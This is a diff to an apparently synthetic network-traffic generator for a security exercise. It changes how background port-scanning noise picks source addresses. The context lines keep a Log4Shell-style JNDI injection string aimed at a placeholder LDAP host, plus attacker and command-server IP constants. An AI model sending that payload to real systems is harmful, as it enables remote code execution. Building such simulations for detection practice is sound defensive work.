@@ -57,6 +57,8 @@ _INJECTIONS = (
 _JNDI = "${jndi:ldap://203.0.113.66:1389/Exploit}"
 _ATTACKERS = ("203.0.113.45", "203.0.113.77", "198.51.100.23", "192.0.2.191")
 _COMMAND_SERVER = "198.51.100.66"
+_NEIGHBOURHOODS = 5
+"""Whom one stranger of the noise knocks at: who knocked at every agency would be an incident, and the queue would be full of them."""
 
 
 @dataclass(frozen=True, slots=True)
@@ -80,9 +82,8 @@ def quiet(random: Random, site: Site) -> Flow:
     sport = random.randrange(32768, 61000)
     inside = f"{site.office}.{random.randrange(1, 9)}.{random.randrange(10, 250)}"
     if random.random() < 0.03:  # the noise of the internet at the door
-        return Flow(
-            f"192.0.2.{random.randrange(1, 180)}", sport, site.web, random.choice((23, 445, 5060)), "tcp", "other", False, False, 60
-        )
+        stranger = 1 + random.randrange(35) * _NEIGHBOURHOODS + int(site.web.rpartition(".")[2]) % _NEIGHBOURHOODS
+        return Flow(f"192.0.2.{stranger}", sport, site.web, random.choice((23, 445, 5060)), "tcp", "other", False, False, 60)
     if random.random() < 0.12:
         return visit(random, site)
     outside = f"203.0.113.{random.randrange(100, 250)}"
